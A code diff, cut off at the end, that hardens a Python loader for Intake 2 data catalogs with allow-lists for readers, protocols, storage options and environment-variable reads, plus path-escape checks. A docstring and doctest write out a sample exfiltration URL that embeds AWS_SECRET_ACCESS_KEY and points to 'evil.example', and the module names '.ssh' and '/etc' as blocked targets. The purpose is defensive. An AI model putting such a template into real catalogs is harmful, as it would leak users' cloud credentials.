@@ -5,25 +5,58 @@ A catalog is an Intake 2 YAML file (``version: 2``).  Each dataset is a reader e
 ``intake.readers.datatypes:Zarr`` whose ``url`` is relative to the catalog's folder
 (``{CATALOG_DIR}/data/NAME.zarr``).  :func:`register_dataset` writes such entries.
 
+A catalog from elsewhere is untrusted by default: the rules below hold unless the caller
+passes ``trusted=True``, which means "I trust this whole file" and lifts all of them.
+
 Trust rule
 ----------
 Intake 2 catalogs can import and call arbitrary Python (reader classes, ``cls`` keys,
 ``{func(...)}``/``{import(...)}``/``{pickle64(...)}`` templates, user-parameter types).
-Unless ``trusted=True``, a catalog file is parsed with ``yaml.safe_load`` and checked
-*before* Intake sees it: every reader, data type, ``cls`` and user-parameter type must be in
-a small allow-list of classes that only read data, and every template must be a plain
-parameter (``{CATALOG_DIR}``), ``{data(...)}`` or ``{env(...)}``.  Anything else raises
+An untrusted catalog file is parsed with ``yaml.safe_load`` and checked *before* Intake
+sees it: every reader, data type, ``cls`` and user-parameter type must be in a small
+allow-list of classes that only read data, the xarray ``engine`` must be ``zarr``, and every
+template must be a plain parameter (``{CATALOG_DIR}``), ``{data(...)}`` or
+``{env(NAME)}``.  Anything else raises
 :class:`~ooc_kernels.exceptions.UntrustedCatalogError` without importing anything.
+
+Environment rule
+----------------
+Intake fills ``{env(NAME)}`` (and ``env(NAME)`` without braces in user-parameter defaults)
+from the environment, so a catalog could send a secret to a URL of its choice
+(``https://evil.example/{env(AWS_SECRET_ACCESS_KEY)}/x.zarr``).  An untrusted catalog may
+only read the variables the *caller* names: ``allow_env=("NAME", ...)`` (command line:
+``--allow-env NAME``); any other ``env(...)`` raises ``UntrustedCatalogError``.
+
+Location rule
+-------------
+After the templates are filled in exactly as Intake fills them, every place an entry or a
+data description names a location (``url``, ``urlpath``, ``path``, ``paths``, ``args``,
+``store``, ``fo`` ... as a string, or every element of a list or tuple; anything else there
+is refused as uncheckable) is split into its fsspec protocols (``a::b::c`` chains too):
+
+* remote protocols in :data:`REMOTE_PROTOCOLS` (``s3``, ``gs``, ``https`` ...) are allowed;
+* protocols that reach the local file system (:data:`LOCAL_PROTOCOLS`: ``file``, ``local``,
+  the caches, ``zip``, ``tar``, ``dir``, ``reference``) are checked by the path rule below;
+  for ``reference::`` the JSON reference file is read and every target it maps is checked
+  the same way (a reference set that cannot be read completely, e.g. parquet or jinja
+  templates, is refused);
+* any other protocol (``memory``, ``data``, ``git``, ``sftp`` ...) raises
+  ``UntrustedCatalogError``.
+
+``storage_options`` (anywhere in an entry) may only set the harmless keys of
+:data:`SAFE_STORAGE_OPTIONS` (``anon``, ``requester_pays`` ...), never ``fo``,
+``target_protocol``, ``remote_options``, ``protocol`` and the like.
 
 Path rule
 ---------
-Every local path an entry reads (after templates such as ``{CATALOG_DIR}``, user parameters
-and ``{env(...)}`` are filled in, ``..`` removed and symbolic links followed) must lie inside
-the catalog file's folder, so a catalog cannot reach ``../../home/me/.ssh`` or ``/etc``.
-Otherwise :class:`PathEscapeError` is raised unless the caller passes
-``allow_outside=True`` (any path) or ``allow_outside=[folder, ...]`` (these folders as
-well).  The rule holds for trusted catalogs too; remote URLs (``s3://``, ``https://`` ...)
-are not local paths and are not checked.
+Every local path an entry reads (after templates, ``~``, ``file:`` prefixes and
+percent-encoding are removed, ``..`` resolved and symbolic links followed, in every way the
+openers interpret them; glob patterns are expanded) must lie inside the catalog file's
+folder, so a catalog cannot reach ``../../home/me/.ssh`` or ``/etc``.  Otherwise
+:class:`PathEscapeError` is raised unless the caller passes ``allow_outside=[folder, ...]``
+(these folders as well; command line ``--data-root PATH``), ``allow_outside=True`` (any
+path; ``--allow-outside``) or ``trusted=True`` (``--trusted``).  Zarr groups (``root``,
+``group``) must not contain ``..``.
 
 Examples
 --------
@@ -46,10 +79,30 @@ ooc_kernels.data.catalog.PathEscapeError: cannot register entry 'krr' ...
 >>> register_dataset(outside, "krr", p, allow_outside=[os.path.join(d, "data")])
 >>> open_dataset(outside, "krr", allow_outside=[os.path.join(d, "data")]).sizes["sample"]
 100
+>>> open_dataset(outside, "krr", trusted=True).sizes["sample"]   # trust lifts the rules
+100
+
+A catalog that reads an environment variable needs the caller's permission:
+
+>>> import yaml
+>>> spec = yaml.safe_load(open(cat))
+>>> (data,) = spec["data"].values()
+>>> data["kwargs"]["url"] = "https://evil.example/{env(AWS_SECRET_ACCESS_KEY)}/x.zarr"
+>>> evil = os.path.join(d, "evil.yaml")
+>>> with open(evil, "w") as f:
+...     yaml.safe_dump(spec, f)
+>>> list_datasets(evil)
+Traceback (most recent call last):
+...
+ooc_kernels.exceptions.UntrustedCatalogError: catalog ...: data ... reads the environment variable ...
+>>> list_datasets(evil, allow_env=["AWS_SECRET_ACCESS_KEY"])
+['krr']
 """
 
 from __future__ import annotations
 
+import glob
+import json
 import os
 import re
 import uuid
@@ -57,6 +110,7 @@ import warnings
 from collections.abc import Iterable, Mapping
 from pathlib import Path
 from typing import Any
+from urllib.parse import unquote, urlparse
 
 import xarray as xr
 import yaml
@@ -69,7 +123,8 @@ class PathEscapeError(CatalogError):
     """A catalog entry's data lies outside the catalog's folder and this was not allowed.
 
     Raised by every function of :mod:`ooc_kernels.data.catalog` (reading and
-    :func:`register_dataset`); pass ``allow_outside=True`` or a list of allowed folders.
+    :func:`register_dataset`); pass ``allow_outside=[folder]``, ``allow_outside=True`` or
+    (when reading) ``trusted=True``.
     """
 
 
@@ -77,6 +132,10 @@ __all__ = [
     "ALLOWED_READERS",
     "ALLOWED_DATATYPES",
     "ALLOWED_USER_PARAMETERS",
+    "ALLOWED_ENGINES",
+    "REMOTE_PROTOCOLS",
+    "LOCAL_PROTOCOLS",
+    "SAFE_STORAGE_OPTIONS",
     "AllowOutside",
     "PathEscapeError",
     "check_catalog_trust",
@@ -100,6 +159,28 @@ ALLOWED_USER_PARAMETERS = frozenset(
                  "NamedOptionsUserParameter", "MultiOptionUserParameter",
                  "BoundedNumberUserParameter")
 )
+#: xarray engines an untrusted catalog may name (others, e.g. ``kerchunk`` or HDF5 with
+#: external links, can read files the path rule does not see).
+ALLOWED_ENGINES = frozenset({"zarr"})
+#: fsspec protocols of remote stores an untrusted catalog may read (their own credentials
+#: govern access; nothing local is reached).
+REMOTE_PROTOCOLS = frozenset({"s3", "s3a", "gs", "gcs", "az", "abfs", "abfss", "adl",
+                              "http", "https", "hf", "oci", "oss"})
+#: fsspec protocols that reach the local file system; allowed in untrusted catalogs, and
+#: every local path they reach (reference targets included) is checked by the path rule.
+#: Any protocol in neither set is refused unless the catalog is trusted.
+LOCAL_PROTOCOLS = frozenset({"file", "local", "simplecache", "filecache", "blockcache",
+                             "cached", "zip", "tar", "libarchive", "dir", "reference"})
+#: ``storage_options`` keys an untrusted catalog may set (none can name a file, a protocol,
+#: an endpoint or credentials); values must be plain scalars.
+SAFE_STORAGE_OPTIONS = frozenset({
+    "anon", "requester_pays", "version_aware", "block_size", "default_block_size",
+    "cache_type", "default_cache_type", "default_fill_cache", "use_listings_cache",
+    "listings_expiry_time", "skip_instance_cache",
+})
+_PLAIN_LOCAL = frozenset({"file", "local"})
+_CACHES = frozenset({"simplecache", "filecache", "blockcache", "cached"})
+_ARCHIVES = frozenset({"zip", "tar", "libarchive"})
 _ALLOWED_ENTRY_CLS = frozenset({"intake.readers.entry:ReaderDescription"})
 _ALLOWED_DATA_CLS = frozenset({"intake.readers.entry:DataDescription"})
 _ALLOWED_OUTPUTS = frozenset({None, "xarray:Dataset"})
@@ -113,12 +194,16 @@ _DATA_REF = re.compile(r"^data\(\s*[A-Za-z0-9_.\-]+\s*(,\s*\d+\s*)?\)$")
 _ENV_REF = re.compile(r"^env\(\s*[A-Za-z_][A-Za-z0-9_]*\s*\)$")
 # intake also matches these *without* braces in user-parameter defaults
 _CALL_TEMPLATE = re.compile(r"(func|import|pickle64)\s*\(", re.IGNORECASE)
+# every environment read intake makes: ``{env(X)}`` anywhere in a string, ``env(X)`` at the
+# start of a user-parameter default (or of a kwarg that sets one); matched anywhere here
+_ENV_ANY = re.compile(r"env[(]([^)]+)[)]", re.IGNORECASE)
+# how intake's Catalog._rehydrate recognises a reference to another entry or data
+_DATA_LINK = re.compile(r"{?data[(]([^)]+)[)]}?")
 _HINT = "pass trusted=True if you trust this file"
 
 #: ``allow_outside`` argument: False (only the catalog's folder), True (anywhere) or an
 #: iterable of extra folders that entries may read from.
 AllowOutside = bool | Iterable[str | os.PathLike]
-
 
 
 # --- trust check -----------------------------------------------------------------------
@@ -130,7 +215,36 @@ def _untrusted(where: str, what: str, source: str) -> UntrustedCatalogError:
     )
 
 
-def _check_value(value: Any, where: str, source: str, *, defaults: bool = False) -> None:
+def _env_names(allow_env: Any) -> frozenset[str]:
+    """The ``allow_env`` argument as a set of variable names."""
+    if allow_env is None:
+        return frozenset()
+    if isinstance(allow_env, str):
+        allow_env = [allow_env]
+    if isinstance(allow_env, Iterable) and not isinstance(allow_env, Mapping):
+        names = list(allow_env)
+        if all(isinstance(n, str) and n for n in names):
+            return frozenset(names)
+    raise CatalogError(
+        f"allow_env must be a list of environment variable names, found {allow_env!r}; e.g. "
+        "allow_env=['DATA_ROOT'] (command line: --allow-env DATA_ROOT)"
+    )
+
+
+def _check_env(value: str, where: str, source: str, allow_env: frozenset[str]) -> None:
+    for name in _ENV_ANY.findall(value):
+        if name not in allow_env:
+            raise UntrustedCatalogError(
+                f"catalog {source}: {where} reads the environment variable {name!r} (in "
+                f"{value!r}); an untrusted catalog may only read the environment variables "
+                f"the caller allows, because it could send their values to any URL; pass "
+                f"allow_env=[{name!r}] (command line: --allow-env {name}) if this catalog "
+                f"may read it, or {_HINT}"
+            )
+
+
+def _check_value(value: Any, where: str, source: str,
+                 allow_env: frozenset[str] = frozenset()) -> None:
     """Walk kwargs-like values: only plain data and harmless templates."""
     if isinstance(value, Mapping):
         if "cls" in value:
@@ -138,10 +252,10 @@ def _check_value(value: Any, where: str, source: str, *, defaults: bool = False)
         for k, v in value.items():
             if not isinstance(k, (str, int, float, bool)) and k is not None:
                 raise _untrusted(where, f"a non-plain key {k!r}", source)
-            _check_value(v, f"{where}.{k}", source, defaults=defaults)
+            _check_value(v, f"{where}.{k}", source, allow_env)
     elif isinstance(value, (list, tuple)):
         for i, v in enumerate(value):
-            _check_value(v, f"{where}[{i}]", source, defaults=defaults)
+            _check_value(v, f"{where}[{i}]", source, allow_env)
     elif isinstance(value, str):
         if _CALL_TEMPLATE.search(value):
             raise _untrusted(where, f"the template {value!r}", source)
@@ -150,14 +264,16 @@ def _check_value(value: Any, where: str, source: str, *, defaults: bool = False)
             if not (_PLAIN_NAME.match(field) or _DATA_REF.match(field)
                     or _ENV_REF.match(field)):
                 raise _untrusted(where, f"the template {{{field}}} in {value!r}", source)
+        _check_env(value, where, source, allow_env)
     elif value is None or isinstance(value, (bool, int, float)):
         return
     else:
         raise _untrusted(where, f"a Python object of type {type(value).__name__}", source)
 
 
-def check_catalog_trust(spec: Mapping, source: str = "<dict>") -> None:
-    """Refuse a parsed Intake 2 catalog that could import or execute code.
+def check_catalog_trust(spec: Mapping, source: str = "<dict>", *,
+                        allow_env: Iterable[str] = ()) -> None:
+    """Refuse a parsed Intake 2 catalog that could import or execute code or read secrets.
 
     Parameters
     ----------
@@ -165,11 +281,14 @@ def check_catalog_trust(spec: Mapping, source: str = "<dict>") -> None:
         The catalog as parsed by ``yaml.safe_load`` (or ``Catalog.to_dict()``).
     source : str
         Name of the catalog in error messages.
+    allow_env : iterable of str, default ()
+        Environment variables the catalog may read through ``{env(NAME)}`` templates.
 
     Raises
     ------
     UntrustedCatalogError
-        Naming the entry, the offending reference and the fix (``trusted=True``).
+        Naming the entry, the offending reference and the fix (``trusted=True``, or
+        ``allow_env`` for an environment variable).
     CatalogError
         The mapping is not an Intake 2 catalog.
 
@@ -182,6 +301,7 @@ def check_catalog_trust(spec: Mapping, source: str = "<dict>") -> None:
     ...
     ooc_kernels.exceptions.UntrustedCatalogError: catalog bad.yaml: entry 'x' uses reader 'os:system', ...
     """
+    allow_env = _env_names(allow_env)
     _check_structure(spec, source)
     for name, entry in (spec.get("entries") or {}).items():
         where = f"entry {name!r}"
@@ -191,18 +311,18 @@ def check_catalog_trust(spec: Mapping, source: str = "<dict>") -> None:
             raise _untrusted(where, f"reader {reader!r}", source)
         if entry.get("output_instance") not in _ALLOWED_OUTPUTS:
             raise _untrusted(where, f"output_instance {entry.get('output_instance')!r}", source)
-        _check_value(entry.get("kwargs") or {}, f"{where} kwargs", source)
-        _check_user_parameters(entry.get("user_parameters") or {}, where, source)
+        _check_value(entry.get("kwargs") or {}, f"{where} kwargs", source, allow_env)
+        _check_user_parameters(entry.get("user_parameters") or {}, where, source, allow_env)
     for name, data in (spec.get("data") or {}).items():
         where = f"data {name!r}"
         _check_entity(data, where, source, _ALLOWED_DATA_CLS)
         datatype = data.get("datatype")
         if datatype not in ALLOWED_DATATYPES:
             raise _untrusted(where, f"datatype {datatype!r}", source)
-        _check_value(data.get("kwargs") or {}, f"{where} kwargs", source)
-        _check_user_parameters(data.get("user_parameters") or {}, where, source)
-    _check_user_parameters(spec.get("user_parameters") or {}, "the catalog", source)
-    _check_value(spec.get("aliases") or {}, "catalog aliases", source)
+        _check_value(data.get("kwargs") or {}, f"{where} kwargs", source, allow_env)
+        _check_user_parameters(data.get("user_parameters") or {}, where, source, allow_env)
+    _check_user_parameters(spec.get("user_parameters") or {}, "the catalog", source, allow_env)
+    _check_value(spec.get("aliases") or {}, "catalog aliases", source, allow_env)
     # metadata is free text: intake neither templates nor imports it when reading
 
 
@@ -242,13 +362,14 @@ def _check_entity(entity: Any, where: str, source: str, allowed_cls: frozenset) 
         raise _untrusted(where, f"class reference cls={entity['cls']!r}", source)
 
 
-def _check_user_parameters(ups: Any, where: str, source: str) -> None:
+def _check_user_parameters(ups: Any, where: str, source: str,
+                           allow_env: frozenset[str] = frozenset()) -> None:
     if not isinstance(ups, Mapping):
         raise CatalogError(f"catalog {source}: user_parameters of {where} must be a mapping")
     for name, up in ups.items():
         up_where = f"{where} user parameter {name!r}"
         if not isinstance(up, Mapping):
-            _check_value(up, up_where, source)
+            _check_value(up, up_where, source, allow_env)
             continue
         cls = up.get("cls")
         if cls is not None and cls not in ALLOWED_USER_PARAMETERS:
@@ -257,12 +378,22 @@ def _check_user_parameters(ups: Any, where: str, source: str) -> None:
         if dtype is not None and dtype not in _SAFE_DTYPES:
             raise _untrusted(up_where, f"dtype {dtype!r}", source)
         _check_value({k: v for k, v in up.items() if k not in ("cls", "dtype")}, up_where,
-                     source)
+                     source, allow_env)
 
 
-# --- path rule -------------------------------------------------------------------------
+# --- location rule and path rule -------------------------------------------------------
 
-_SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.\-]*)://")
+# keys whose values intake, xarray, zarr or fsspec open as locations
+_PATH_KEYS = frozenset({"url", "urlpath", "path", "paths", "filename_or_obj", "store",
+                        "chunk_store", "attrs_file", "fo", "target", "args", "data"})
+# keys that name a group inside a Zarr store
+_IN_STORE_KEYS = frozenset({"root", "group"})
+# a string under another key is still checked when it looks like a location
+_SCHEME_LIKE = re.compile(r"^[A-Za-z][A-Za-z0-9+.\-]*:")
+# what xarray treats as a remote URI (anything else it opens as a local path)
+_XARRAY_REMOTE = re.compile(r"^[a-z][a-z0-9]*(://|::)")
+_NOT_PROTOCOL_WORD = re.compile(".*[^a-z]+.*")  # fsspec.core._un_chain's test
+_MAX_REFERENCE_DEPTH = 2
 
 
 def _allowed_roots(base: Path | None, allow_outside: Any) -> list[Path] | None:
@@ -289,63 +420,47 @@ def _allowed_roots(base: Path | None, allow_outside: Any) -> list[Path] | None:
     return roots
 
 
-def _local_paths(url: Any) -> list[Path]:
-    """Resolved local paths a URL reads (fsspec chains ``a::b`` give several); remote: none."""
-    if not isinstance(url, str) or not url:
-        return []
-    from urllib.parse import unquote, urlparse
+def _chain(url: str) -> list[tuple[str | None, str, str]]:
+    """``(protocol, path, bit)`` per link of an fsspec URL, outer first, split as
+    ``fsspec.core._un_chain`` splits it; protocols in lower case, ``None`` for a plain path."""
+    from fsspec.core import split_protocol
+    from fsspec.registry import available_protocols
 
+    if "::" in url:
+        known = set(available_protocols())
+        bits = []
+        for part in url.split("::"):
+            if part in known:
+                bits.append(part + "://")
+            elif "://" in part or _NOT_PROTOCOL_WORD.match(part):
+                bits.append(part)
+            else:
+                bits.append(part + "://")
+    else:
+        bits = [url]
     out = []
-    for part in url.split("::"):
-        m = _SCHEME.match(part)
-        if m and m.group(1).lower() not in ("file", "local"):
-            continue  # remote (s3://, https://, memory:// ...): not a local path
-        local = unquote(urlparse(part).path) if m else part
-        out.append(Path(os.path.abspath(os.path.expanduser(local))).resolve())
+    for bit in bits:
+        protocol, path = split_protocol(bit)
+        out.append((protocol.lower() if protocol else None, path, bit))
     return out
 
 
-def _catalog_base(cat) -> Path | None:
-    """The catalog file's folder (resolved); the working folder for in-memory catalogs."""
-    base = cat.user_parameters.get("CATALOG_DIR")
-    base = getattr(base, "default", base)
-    if base is None:
-        return Path.cwd().resolve()
-    paths = _local_paths(str(base))
-    return paths[0] if len(paths) == 1 else None
+def _strip_file(path: str) -> str:
+    """A local path without a ``file:``/``local:`` prefix, as fsspec's LocalFileSystem."""
+    for prefix in ("file://", "local://", "file:", "local:"):
+        if path[:len(prefix)].lower() == prefix:
+            return path[len(prefix):]
+    return path
 
 
-def _entry_urls(cat, name: str) -> list[str]:
-    """The data URLs entry ``name`` reads, templates filled in as intake fills them."""
-    entry = cat.entries[cat.aliases.get(name, name)]
-    urls: list[str] = []
-
-    def walk(value):
-        if isinstance(value, Mapping):
-            for key, v in value.items():
-                if key in ("url", "urlpath", "path") and isinstance(v, str):
-                    urls.append(_resolve(cat, v))
-                else:
-                    walk(v)
-        elif isinstance(value, (list, tuple)):
-            for v in value:
-                walk(v)
-        elif isinstance(value, str):
-            m = re.match(r"{?data[(]\s*([^),\s]+)", value)
-            if m and m.group(1) in cat.data:
-                token = m.group(1)
-                try:
-                    url = getattr(cat[token], "url", None)
-                except Exception:  # noqa: BLE001 - a trusted custom datatype failing to build
-                    url = None
-                if not isinstance(url, str):
-                    url = _resolve(cat, cat.data[token].kwargs.get("url"))
-                urls.append(url)
-        elif hasattr(value, "kwargs"):
-            walk(value.kwargs)
-
-    walk(entry.kwargs)
-    return [u for u in urls if isinstance(u, str)]
+def _resolutions(path: str) -> list[Path]:
+    """The absolute paths a local path string can mean to the openers: with and without
+    ``~`` expansion, ``..`` removed before (xarray, fsspec) and after (the OS) following
+    symbolic links."""
+    out: list[Path] = []
+    for v in dict.fromkeys((os.path.expanduser(path), path)):
+        out += [Path(os.path.abspath(v)).resolve(), Path(v).resolve()]
+    return list(dict.fromkeys(out))
 
 
 def _outside(path: Path, roots: list[Path]) -> bool:
@@ -359,24 +474,362 @@ def _fmt_roots(base: Path | None, roots: list[Path]) -> str:
     return where + (f" or the allowed folders {extra}" if extra else "")
 
 
+def _catalog_base(cat) -> Path | None:
+    """The catalog file's folder (resolved); the working folder for in-memory catalogs."""
+    base = cat.user_parameters.get("CATALOG_DIR")
+    base = getattr(base, "default", base)
+    if base is None:
+        return Path.cwd().resolve()
+    if not isinstance(base, str):
+        return None
+    bits = _chain(base)
+    if len(bits) != 1 or bits[0][0] not in (None, *_PLAIN_LOCAL):
+        return None  # a remote catalog: no local folder
+    return Path(os.path.abspath(_strip_file(bits[0][2]))).resolve()
+
+
+def _looks_like_location(value: str) -> bool:
+    return ("://" in value or "::" in value or value.startswith(("/", "~", "\\"))
+            or bool(_SCHEME_LIKE.match(value))
+            or ".." in re.split(r"[/\\]", unquote(value)))
+
+
+class _Link:
+    """A ``{data(TOKEN)}`` reference, left in the kwargs where intake would insert the
+    referenced data or reader."""
+
+    __slots__ = ("token",)
+
+    def __init__(self, token: str):
+        self.token = token
+
+
+def _link_refs(value: Any) -> Any:
+    """The kwargs with references replaced as ``Catalog._rehydrate`` replaces them."""
+    if isinstance(value, Mapping):
+        return {k: _link_refs(v) for k, v in value.items()}
+    if isinstance(value, str):
+        m = _DATA_LINK.match(value)
+        return _Link(m.group(1)) if m else value
+    if isinstance(value, (list, tuple, set, frozenset)):
+        return type(value)(_link_refs(v) for v in value)
+    return value
+
+
+class _LocationCheck:
+    """Checks where the entries and data of a loaded catalog read from (untrusted catalogs).
+
+    Every entry's and data description's kwargs are filled in with intake's own
+    ``set_values`` (references to other descriptions are followed, not instantiated); then
+    locations are checked against the protocol lists, ``storage_options`` against
+    :data:`SAFE_STORAGE_OPTIONS`, ``engine`` against :data:`ALLOWED_ENGINES` and local
+    paths against ``roots`` (``None``: any local path).
+    """
+
+    def __init__(self, cat, roots: list[Path] | None, base: Path | None, source: str):
+        self.cat, self.roots, self.base, self.source = cat, roots, base, source
+        # percent-decoded roots too, so that a folder named 'a%20b' still contains itself
+        self.unquoted_roots = None if roots is None else \
+            roots + [Path(unquote(str(r))) for r in roots]
+        self.done: set[tuple[str, str]] = set()
+        self.references: dict[Path, list[tuple[str, str]]] = {}
+
+    def run(self) -> None:
+        for name in sorted(self.cat.entries, key=str):
+            self.description("entries", name, f"entry {name!r}", "")
+        for token in sorted(self.cat.data, key=str):
+            self.description("data", token, f"data {token!r}", "")
+
+    # -- descriptions and references
+
+    def description(self, kind: str, token: str, who: str, prefix: str) -> None:
+        if (kind, token) in self.done:
+            return
+        self.done.add((kind, token))
+        desc = getattr(self.cat, kind)[token]
+        raw = _link_refs(dict(desc.kwargs or {}))
+        raw.update(getattr(self.cat, "_up_overrides", None) or {})
+        ups = dict(desc.user_parameters or {})
+        ups.update(self.cat.user_parameters)
+        try:
+            from intake.readers.user_parameters import set_values
+
+            filled = set_values(ups, dict(raw))
+        except Exception as err:  # noqa: BLE001 - intake would fail the same way
+            raise UntrustedCatalogError(
+                f"catalog {self.source}: {who}: the templates of {prefix or ''}kwargs cannot "
+                f"be filled in ({type(err).__name__}: {err}), so where it reads from cannot "
+                f"be checked; fix the catalog, or {_HINT}"
+            ) from None
+        self.walk(filled, raw, who, f"{prefix}kwargs", "other")
+
+    def follow(self, token: str, who: str) -> None:
+        token = self.cat.aliases.get(token, token)
+        if token in self.cat.entries:
+            self.description("entries", token, who, f"entry {token!r} ")
+        elif token in self.cat.data:
+            self.description("data", token, who, f"data {token!r} ")
+        # anything else: intake raises KeyError when reading, nothing is opened
+
+    # -- walking the filled-in kwargs
+
+    def walk(self, node: Any, raw: Any, who: str, field: str, mode: str) -> None:
+        """``mode``: 'path' (a location is expected), 'store' (a group inside a Zarr
+        store) or 'other'; ``raw`` is the same place before templates were filled in."""
+        if isinstance(node, _Link):
+            self.follow(node.token, who)
+        elif isinstance(node, Mapping):
+            if mode != "other":
+                self.uncheckable(node, who, field)
+            for k, v in node.items():
+                sub = f"{field}.{k}"
+                raw_v = raw.get(k) if isinstance(raw, Mapping) else \
+                    raw if isinstance(raw, str) else None
+                if k == "storage_options":
+                    self.storage_options(v, who, sub)
+                elif k == "engine" and v is not None and v not in ALLOWED_ENGINES:
+                    raise UntrustedCatalogError(
+                        f"catalog {self.source}: {who} uses the xarray engine {v!r} ({sub}), "
+                        f"which can read files the path rule does not see; an untrusted "
+                        f"catalog may use {sorted(ALLOWED_ENGINES)}: remove it or write "
+                        f"engine: zarr, or {_HINT}"
+                    )
+                child = "path" if k in _PATH_KEYS else "store" if k in _IN_STORE_KEYS \
+                    else "other"
+                self.walk(v, raw_v, who, sub, child)
+        elif isinstance(node, (list, tuple, set, frozenset)):
+            for i, v in enumerate(node):
+                raw_v = raw[i] if isinstance(raw, (list, tuple)) and i < len(raw) and \
+                    len(raw) == len(node) else raw if isinstance(raw, str) else None
+                self.walk(v, raw_v, who, f"{field}[{i}]", mode)
+        elif isinstance(node, str):
+            written = raw if isinstance(raw, str) else node
+            if mode == "path" or (mode == "other" and _looks_like_location(node)):
+                self.location(node, written, who, field, 0)
+            elif mode == "store":
+                self.in_store(node, written, who, field)
+        elif node is None or mode == "other":
+            return
+        else:
+            self.uncheckable(node, who, field)
+
+    def uncheckable(self, node: Any, who: str, field: str) -> None:
+        raise UntrustedCatalogError(
+            f"catalog {self.source}: {who} has {node!r} ({type(node).__name__}) in {field}, "
+            "where a path or URL is expected, and it cannot be checked; write a string (or "
+            f"a list of strings) such as '{{CATALOG_DIR}}/data/x.zarr', or {_HINT}"
+        )
+
+    def storage_options(self, options: Any, who: str, field: str) -> None:
+        if options is None:
+            return
+        if not isinstance(options, Mapping):
+            self.uncheckable(options, who, field)
+        for key, value in options.items():
+            if key not in SAFE_STORAGE_OPTIONS:
+                raise UntrustedCatalogError(
+                    f"catalog {self.source}: {who} sets the storage option {key!r} "
+                    f"({field}.{key}), which could point fsspec at local files, another "
+                    f"protocol or another endpoint; an untrusted catalog may only set "
+                    f"{sorted(SAFE_STORAGE_OPTIONS)}: remove {key!r} from the catalog, or "
+                    f"{_HINT}"
+                )
+            if not (value is None or isinstance(value, (bool, int, float, str))):
+                raise UntrustedCatalogError(
+                    f"catalog {self.source}: {who} sets the storage option {key!r} to "
+                    f"{value!r} ({field}.{key}); only plain values are allowed in an "
+                    f"untrusted catalog; write a number, string or boolean, or {_HINT}"
+                )
+
+    # -- locations
+
+    def location(self, value: str, written: str, who: str, field: str, depth: int) -> None:
+        bits = _chain(value)
+        for protocol, _, _ in bits:
+            if protocol is not None and protocol not in LOCAL_PROTOCOLS | REMOTE_PROTOCOLS:
+                raise UntrustedCatalogError(
+                    f"catalog {self.source}: {who} reads {written!r} ({field}) through the "
+                    f"fsspec protocol {protocol!r}, which is neither a remote store of the "
+                    f"allow-list {sorted(REMOTE_PROTOCOLS)} nor a local protocol the path "
+                    f"rule can check {sorted(LOCAL_PROTOCOLS)}; use a path under the "
+                    f"catalog's folder (e.g. '{{CATALOG_DIR}}/data/x.zarr') or an allowed "
+                    f"remote URL, or {_HINT}"
+                )
+        local: list[str] = []      # local path strings this location reaches
+        references: list[str] = []  # local reference files whose targets it reaches
+        inner: str | None = None   # the local path of the link inside the current one
+        for i in reversed(range(len(bits))):
+            protocol, path, bit = bits[i]
+            innermost = i == len(bits) - 1
+            if protocol is None or protocol in _PLAIN_LOCAL:
+                inner = _strip_file(bit)
+                local.append(inner)
+                if protocol is None:
+                    local.append(bit)   # xarray/zarr open it as written
+                else:
+                    local.append(unquote(urlparse(bit).path))
+            elif protocol in _CACHES or protocol == "dir":
+                if protocol == "dir" and inner is not None:
+                    path = inner.rstrip("/") + "/" + path if path else inner
+                if path and (innermost or inner is not None):
+                    local.append(path)  # opened on the local file system
+                    inner = path
+            elif protocol == "reference":
+                if innermost or inner is None:
+                    # references from storage_options or a remote file: not checkable
+                    raise self.unreadable_references(
+                        bit if innermost else bits[i + 1][2], written, who, field)
+                references.append(inner)
+                inner = None
+            elif protocol in _ARCHIVES:
+                if innermost:  # the archive would come from storage_options (fo)
+                    raise UntrustedCatalogError(
+                        f"catalog {self.source}: {who} reads {written!r} ({field}) from a "
+                        f"{protocol} archive without naming the archive, which cannot be "
+                        f"checked; chain it to the archive's path (e.g. "
+                        f"'{protocol}://x.zarr::{{CATALOG_DIR}}/data/x.{protocol}'), or {_HINT}"
+                    )
+                inner = None  # the members are inside the archive
+            else:  # remote stores
+                inner = None
+        if not _XARRAY_REMOTE.match(value):
+            local.append(value)  # xarray opens anything else as a local path
+        if self.roots is not None:
+            for path in dict.fromkeys(local):
+                self.local_path(path, value, written, who, field)
+        for refs in references:  # read only once the file itself passed the path rule
+            for key, target in self.reference_targets(refs, written, who, field):
+                if depth >= _MAX_REFERENCE_DEPTH:
+                    raise self.unreadable_references(refs, written, who, field)
+                self.location(target, target, who, f"{field} -> reference {key!r} of {refs!r}",
+                              depth + 1)
+
+    def local_path(self, path: str, value: str, written: str, who: str, field: str) -> None:
+        try:
+            checks = [(p, self.roots) for p in _resolutions(path)]
+            decoded = unquote(path)
+            if decoded != path:  # percent-decoded: inside the (decoded) allowed folders
+                checks += [(p, self.unquoted_roots) for p in _resolutions(decoded)]
+            if re.search(r"[*?[]", path) and not any(_outside(p, r) for p, r in checks):
+                # a glob pattern inside the folder: what it matches (symbolic links ...)
+                pattern = os.path.abspath(os.path.expanduser(path))
+                checks += [(Path(m).resolve(), self.roots) for m in glob.glob(pattern)]
+        except (OSError, ValueError) as err:
+            raise UntrustedCatalogError(
+                f"catalog {self.source}: {who} reads {written!r} ({field}), which cannot be "
+                f"resolved to a local path ({type(err).__name__}: {err}); fix the path, or "
+                f"{_HINT}"
+            ) from None
+        for p, roots in checks:
+            if _outside(p, roots):
+                filled = f", filled in as {value!r}" if value != written else ""
+                raise PathEscapeError(
+                    f"catalog {self.source}: {who} reads {written!r} ({field}{filled}), which "
+                    f"resolves to {str(p)!r}, outside {_fmt_roots(self.base, self.roots)}; "
+                    f"move the data under the catalog's folder or, if you trust this "
+                    f"catalog, pass allow_outside=[{str(p.parent)!r}] (that folder as "
+                    f"well), allow_outside=True (any path) or trusted=True (command line: "
+                    f"--data-root {str(p.parent)}, --allow-outside or --trusted)"
+                )
+
+    def in_store(self, value: str, written: str, who: str, field: str) -> None:
+        if self.roots is not None and ".." in re.split(r"[/\\]", unquote(value)):
+            raise PathEscapeError(
+                f"catalog {self.source}: {who} opens the Zarr group {written!r} ({field}), "
+                f"which leaves the store through '..'; name a group inside the store (e.g. "
+                f"'train'), or pass allow_outside=True or trusted=True if you trust this "
+                f"catalog (command line: --allow-outside or --trusted)"
+            )
+
+    # -- reference file systems
+
+    def unreadable_references(self, refs: str, written: str, who: str,
+                              field: str) -> UntrustedCatalogError:
+        return UntrustedCatalogError(
+            f"catalog {self.source}: {who} reads {written!r} ({field}) through a reference "
+            f"file system whose references {refs!r} cannot be read and checked completely "
